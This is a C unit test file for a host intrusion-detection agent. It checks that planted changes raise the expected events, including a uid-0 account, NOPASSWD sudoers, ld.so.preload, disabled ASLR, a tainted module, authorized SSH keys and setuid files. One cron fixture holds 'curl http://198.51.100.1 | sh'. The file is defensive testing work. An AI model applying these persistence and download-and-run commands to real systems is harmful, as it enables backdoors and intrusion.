/* The state of a machine, here a small one in a folder. */
#include "../test.h"
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>
#include "core/json.h"
#include "plat/clock.h"
#include "plat/fs.h"
#include "sakimori-agent/inspect/round.h"

struct machine {
    char top[64];
    int root, dir;
    struct round round;
    struct sm_buf lines;
    uint64_t now;
};

static void put(struct machine *m, const char *path, const char *text)
{
    char folder[512];
    snprintf(folder, sizeof folder, "%s/root/%s", m->top, path);
    *strrchr(folder, '/') = 0;
    assert_ok(plat_fs_mkdir_p(folder, 0755));
    int fd = openat(m->root, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    assert_true(fd >= 0);
    assert_ok(plat_fs_write_all(fd, SM_SPAN_STR(text)));
    close(fd);
}

static void start(struct machine *m)
{
    int err = 1;
    m->now = plat_clock_mono_ms();
    assert_ok(round_init(&m->round, m->root, m->dir, inotify_init1(IN_NONBLOCK | IN_CLOEXEC), m->now, &err));
    assert_int_equal(err, 0);
}

static void stop(struct machine *m)
{
    close(m->round.inotify);
    round_wipe(&m->round);
}

static void open_machine(struct machine *m)
{
    char path[128];
    *m = (struct machine){.top = "/tmp/sm-inspect-XXXXXX", .lines = SM_BUF_INIT(8 << 20)};
    assert_non_null(mkdtemp(m->top));
    snprintf(path, sizeof path, "%s/root", m->top);
    assert_ok(mkdir(path, 0755));
    m->root = plat_fs_open_dir(AT_FDCWD, path);
    snprintf(path, sizeof path, "%s/data", m->top);
    assert_ok(mkdir(path, 0700));
    m->dir = plat_fs_open_dir(AT_FDCWD, path);
    assert_true(m->root >= 0 && m->dir >= 0);
    put(m, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/bash\n");
    put(m, "etc/group", "root:x:0:\nsudo:x:27:hanako\n");
    put(m, "etc/shadow", "root:*:1::::::\n");
    put(m, "etc/sudoers", "# comment\nroot ALL=(ALL:ALL) ALL\n");
    put(m, "etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n");
    put(m, "proc/modules", "ext4 1 2 - Live 0x0\nnf_tables 3 0 - Live 0x0 (E)\n");
    put(m, "proc/sys/kernel/randomize_va_space", "2\n");
    put(m, "usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
    put(m, "usr/bin/passwd", "program");
    start(m);
}

static void close_machine(struct machine *m)
{
    stop(m);
    close(m->root);
    close(m->dir);
    assert_ok(plat_fs_remove_tree(AT_FDCWD, m->top));
    sm_buf_wipe(&m->lines);
}

/* Everything is due; what is told is kept. */
static void look(struct machine *m)
{
    sm_buf_clear(&m->lines);
    m->now += 7 * 3600 * 1000;
    assert_ok(round_go(&m->round, m->now, (struct sm_time){.s = 4000000000}, &m->lines)); /* long after any upgrade */
    assert_ok(round_keep(&m->round));
}

/* The first event with this action, and how many lines there are. */
static json_t *event(struct machine *m, const char *action, size_t *ret_all)
{
    struct sm_span rest = sm_buf_span(&m->lines), line;
    json_t *found = NULL;
    *ret_all = 0;
    while (inspect_line(&rest, &line)) {
        json_t *o = NULL;
        assert_ok(sm_json_parse(line, 65536, &o, NULL));
        assert_string_equal(json_string_value(json_object_get(o, "service")), "sakimori");
        ++*ret_all;
        if (!found && strcmp(json_string_value(json_object_get(o, "action")), action) == 0)
            found = json_incref(o);
        json_decref(o);
    }
    if (!found)
        print_message("%.*s\n", (int)m->lines.n, m->lines.p ? (const char *)m->lines.p : "");
    return found;
}

static const char *text(const json_t *o, const char *key)
{
    const char *s = json_string_value(json_object_get(o, key));
    return s ? s : "";
}

static void expect(struct machine *m, const char *action, const char *change, const char *field, const char *value)
{
    size_t all;
    json_t *o = event(m, action, &all);
    assert_non_null(o);
    assert_int_equal(all, 1);
    assert_string_equal(text(o, "Change"), change);
    if (!strstr(text(o, field), value) || !value[0])
        print_message("%s: %s\n", field, text(o, field));
    assert_non_null(strstr(text(o, field), value));
    json_decref(o);
}

static void the_first_look_tells_nothing_and_neither_does_the_second(void **state)
{
    (void)state;
    struct machine m;
    open_machine(&m);
    look(&m);
    assert_int_equal(m.lines.n, 0);
    look(&m);
    assert_int_equal(m.lines.n, 0);
    close_machine(&m);
}

static void each_change_is_told_by_its_sensor_alone(void **state)
{
    (void)state;
    static const struct {
        const char *path, *text, *action, *change, *field, *value;
    } rows[] = {
        {"etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
            "account_added", "added", "UserId", "0"},
        {"etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n",
            "account_changed", "changed", "Shell", "/bin/sh"},
        {"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\n", "account_removed",
            "removed", "TargetUser", "toor"},
        {"etc/group", "root:x:0:\nsudo:x:27:hanako,taro\n", "group_changed", "changed", "Members", "taro"},
        {"etc/sudoers.d/x", "# me\n  hanako ALL=NOPASSWD: ALL\n", "sudoers_changed", "added", "Content",
            "hanako ALL=NOPASSWD: ALL"},
        {"etc/cron.d/job", "* * * * * root curl http://198.51.100.1 | sh\n", "cron_changed", "added", "Content",
            "curl"},
        {"var/spool/cron/crontabs/hanako", "@reboot /home/hanako/x\n", "cron_changed", "added", "TargetFilename",
            "/var/spool/cron/crontabs/hanako"},
        {"etc/crontab", "17 * * * * root true\n", "cron_changed", "changed", "TargetFilename", "/etc/crontab"},
        {"etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n", "service_changed", "added", "Content",
            "ExecStart=/tmp/x"},
        {"etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=daily\n", "service_changed", "added", "TargetFilename",
            "evil.timer"},
        {"usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -d\n", "service_changed", "changed",
            "Content", "-d"},
        {"etc/ssh/sshd_config", "PermitRootLogin yes\n", "sshd_changed", "added", "Content", "PermitRootLogin yes"},
        {"etc/ld.so.preload", "/tmp/lib.so\n", "preload_changed", "added", "Content", "/tmp/lib.so"},
        {"proc/sys/kernel/randomize_va_space", "0\n", "sysctl_changed", "changed", "Value", "0"},
        {"proc/modules", "ext4 1 2 - Live 0x0\nnf_tables 3 0 - Live 0x0 (E)\nrootkit 1 0 - Live 0x0 (OE)\n",
            "module_loaded", "added", "Taint", "OE"},
        {"proc/modules", "ext4 1 2 - Live 0x0\nrootkit 1 0 - Live 0x0 (OE)\n", "module_unloaded", "removed", "Module",
            "nf_tables"},
        {"root/.ssh/authorized_keys",
            "# x\ncommand=\"a b\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdvb2RLZXlHb29kS2V5R29vZEtleUdvb2RLZXlHb29k "
            "someone@far\n",
            "ssh_key_added", "added", "Comment", "someone@far"},
    };
    struct machine m;
    open_machine(&m);
    look(&m);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        put(&m, rows[i].path, rows[i].text);
        look(&m);
        expect(&m, rows[i].action, rows[i].change, rows[i].field, rows[i].value);
        look(&m);
        assert_int_equal(m.lines.n, 0);
    }
    close_machine(&m);
}

static void a_new_setuid_program_is_told_in_usr_and_where_anybody_writes(void **state)
{
    (void)state;
    struct machine m;
    open_machine(&m);
    put(&m, "tmp/a/x", "shell");
    put(&m, "usr/lib/deep/down/y", "shell");
    look(&m);
    assert_ok(fchmodat(m.root, "tmp/a/x", 04755, 0));
    look(&m);
    expect(&m, "setuid_added", "added", "TargetFilename", "/tmp/a/x");
    assert_ok(fchmodat(m.root, "usr/bin/passwd", 04755, 0));
    look(&m);
    expect(&m, "setuid_added", "added", "TargetFilename", "/usr/bin/passwd");
    assert_ok(fchmodat(m.root, "usr/lib/deep/down/y", 02755, 0));
    look(&m);
    expect(&m, "setuid_added", "added", "Mode", "2755");
    close_machine(&m);
}

static void a_stick_is_told_with_its_serial_when_it_comes_and_goes(void **state)
{
    (void)state;
    struct machine m;
    open_machine(&m);
    look(&m);
    put(&m, "sys/devices/usb/1-1/idVendor", "0951\n");
    put(&m, "sys/devices/usb/1-1/idProduct", "1666\n");
    put(&m, "sys/devices/usb/1-1/serial", "E0D55EA573\n");
    put(&m, "sys/devices/usb/1-1/manufacturer", "Kingston\n");
    put(&m, "sys/devices/usb/1-1/product", "DataTraveler\n");
    put(&m, "sys/devices/usb/1-1/host1/target/vendor", "x\n");
    put(&m, "sys/block/sdb/size", "0\n");
    put(&m, "sys/block/sdb/removable", "1\n");
    assert_ok(symlinkat("../../devices/usb/1-1/host1/target", m.root, "sys/block/sdb/device"));
    look(&m);
    assert_int_equal(m.lines.n, 0); /* nothing in it */
    put(&m, "sys/block/sdb/size", "2048\n");
    look(&m);
    expect(&m, "media_attached", "added", "Serial", "E0D55EA573");
    put(&m, "sys/block/loop0/size", "8\n");
    put(&m, "sys/block/loop0/loop/backing_file", "/tmp/disk.img\n");
    put(&m, "sys/block/sda/size", "4096\n");
    put(&m, "sys/block/sda/removable", "0\n");
    look(&m);
    expect(&m, "media_attached", "added", "Kind", "loop");
    assert_ok(unlinkat(m.root, "sys/block/sdb/size", 0));
    look(&m);
    expect(&m, "media_detached", "removed", "Vendor", "Kingston");
    close_machine(&m);
}

#define TCP "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
static void a_port_counts_when_it_was_open_twice_and_gone_twice(void **state)
{
    (void)state;
    struct machine m;
    open_machine(&m);
    put(&m, "proc/net/tcp",
        TCP "   0: 0100007F:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
    look(&m);
    put(&m, "proc/net/tcp",
        TCP "   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1 1\n"
            "   1: 0100007F:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
            "   2: 00000000:0050 0200007F:1000 01 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
    look(&m);
    assert_int_equal(m.lines.n, 0);
    look(&m);
    expect(&m, "port_opened", "added", "Port", "tcp 0.0.0.0 8080");
    look(&m);
    assert_int_equal(m.lines.n, 0);
    put(&m, "proc/net/tcp", TCP);
    look(&m);
    assert_int_equal(m.lines.n, 0);
    look(&m);
    expect(&m, "port_closed", "removed", "UserId", "1000");
    close_machine(&m);
}

static void what_changed_while_nobody_looked_is_told_at_the_next_start(void **state)
{
    (void)state;
    struct machine m;
    size_t all;
    open_machine(&m);
    look(&m);
    stop(&m);
    put(&m, "etc/cron.d/job", "* * * * * root x\n");
    start(&m);
    look(&m);
    json_t *o = event(&m, "cron_changed", &all);
    assert_int_equal(all, 1);
    assert_true(json_is_true(json_object_get(o, "WhileOff")));
    json_decref(o);
    stop(&m);
    start(&m);
    look(&m);
    assert_int_equal(m.lines.n, 0);
    close_machine(&m);
}

static void changes_during_an_upgrade_say_so(void **state)
{
    (void)state;
    struct machine m;
    size_t all;
    open_machine(&m);
    look(&m);
    put(&m, "var/lib/dpkg/status", "Package: x\n");
    assert_ok(utimensat(m.root, "var/lib/dpkg/status", (const struct timespec[]){{4000000100, 0}, {4000000100, 0}}, 0));
    put(&m, "usr/lib/systemd/system/new.service", "[Service]\nExecStart=/usr/bin/new\n");
    look(&m);
    json_t *o = event(&m, "service_changed", &all);
    assert_non_null(o);
    assert_string_equal(text(o, "During"), "upgrade");
    json_decref(o);
    close_machine(&m);
}

static void many_changes_at_once_are_told_in_sum(void **state)
{
    (void)state;
    struct machine m;
    size_t all;
    char path[64];
    open_machine(&m);
    look(&m);
    for (int i = 0; i < INSPECT_TELL_MAX + 30; i++) {
        snprintf(path, sizeof path, "etc/cron.d/job%03d", i);
        put(&m, path, "x\n");
    }
    look(&m);
    json_t *o = event(&m, "overflow", &all);
    assert_int_equal(all, INSPECT_TELL_MAX + 1);
    assert_int_equal(json_integer_value(json_object_get(o, "Dropped")), 30);
    json_decref(o);
    close_machine(&m);
}

static void a_change_in_a_folder_is_looked_at_at_once(void **state)
{
    (void)state;
    struct machine m;
    _Alignas(struct inotify_event) uint8_t buf[4096];
    open_machine(&m);
    assert_ok(round_go(&m.round, m.now + 1000, (struct sm_time){.s = 4000000000}, &m.lines));
    assert_true(round_next(&m.round) >= m.now + 60000);
    put(&m, "etc/sudoers", "hanako ALL=(ALL) ALL\n");
    struct pollfd f = {m.round.inotify, POLLIN, 0};
    assert_int_equal(poll(&f, 1, 60000), 1);
    ssize_t n = read(m.round.inotify, buf, sizeof buf);
    assert_true(n > 0);
    round_inotify(&m.round, SM_SPAN(buf, n), m.now + 2000);
    assert_true(round_next(&m.round) <= m.now + 2000 + ROUND_SOON_MS);
    assert_ok(round_go(&m.round, m.now + 2000 + ROUND_SOON_MS, (struct sm_time){.s = 4000000000}, &m.lines));
    expect(&m, "sudoers_changed", "changed", "Content", "hanako");
    round_uevent(&m.round, m.now + 5000);
    assert_int_equal(round_next(&m.round), m.now + 5000 + ROUND_SOON_MS);
    close_machine(&m);
}

static void a_baseline_of_another_version_or_broken_is_begun_anew(void **state)
{
    (void)state;
    struct baseline *b;
    struct items s = {0};
    assert_ok(baseline_new(&b));
    assert_int_equal(baseline_parse(b, SM_SPAN_STR("{\"v\":2,\"sensors\":{}}")), -SM_EVERSION);
    assert_int_equal(baseline_parse(b, SM_SPAN_STR("{\"sensors\":{}}")), -SM_EFORMAT);
    assert_int_equal(
        baseline_parse(b, SM_SPAN_STR("{\"v\":1,\"sensors\":{\"cron\":{\"items\":{\"a\":1}}}}")), -SM_EFORMAT);
    assert_null(baseline_of(b, "cron"));
    /* as version 1 writes it */
    assert_ok(baseline_parse(b, SM_SPAN_STR("{\"sensors\":{\"cron\":{\"cut\":false,\"items\":{\"/etc/"
                                            "b\":\"Mode=0644\\u001fOwner=0\",\"/etc/a\":\"\"}}},\"v\":1}")));
    assert_int_equal(baseline_of(b, "cron")->n, 2);
    assert_string_equal(baseline_of(b, "cron")->row[1].kept, "Mode=0644\x1fOwner=0");
    items_add(&s, SM_SPAN("k\xff\x1f", 3));
    items_keep(&s, "F", SM_SPAN("\x1f\xff", 2));
    items_keep(&s, "G", SM_SPAN_STR("あ"));
    assert_string_equal(s.row[0].key, "k\\xFF\\x1F");
    assert_string_equal(s.row[0].kept, "F=\\x1F\\xFF\x1fG=あ");
    items_wipe(&s);
    baseline_free(b);
}

static void a_link_or_a_pipe_in_the_place_of_a_file_does_no_harm(void **state)
{
    (void)state;
    struct machine m;
    open_machine(&m);
    put(&m, "etc/secret", "secret words\n");
    put(&m, "root/.ssh/x", "");
    look(&m);
    assert_ok(symlinkat("/etc/secret", m.root, "root/.ssh/authorized_keys"));
    assert_ok(mkfifoat(m.root, "etc/ld.so.preload", 0644));
    look(&m);
    assert_int_equal(m.lines.n, 0);
    assert_ok(symlinkat("../secret", m.root, "etc/cron.d"));
    look(&m);
    assert_int_equal(m.lines.n, 0);
    close_machine(&m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_first_look_tells_nothing_and_neither_does_the_second),
        cmocka_unit_test(each_change_is_told_by_its_sensor_alone),
        cmocka_unit_test(a_new_setuid_program_is_told_in_usr_and_where_anybody_writes),
        cmocka_unit_test(a_stick_is_told_with_its_serial_when_it_comes_and_goes),
        cmocka_unit_test(a_port_counts_when_it_was_open_twice_and_gone_twice),
        cmocka_unit_test(what_changed_while_nobody_looked_is_told_at_the_next_start),
        cmocka_unit_test(changes_during_an_upgrade_say_so),
        cmocka_unit_test(many_changes_at_once_are_told_in_sum),
        cmocka_unit_test(a_change_in_a_folder_is_looked_at_at_once),
        cmocka_unit_test(a_baseline_of_another_version_or_broken_is_begun_anew),
        cmocka_unit_test(a_link_or_a_pipe_in_the_place_of_a_file_does_no_harm),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
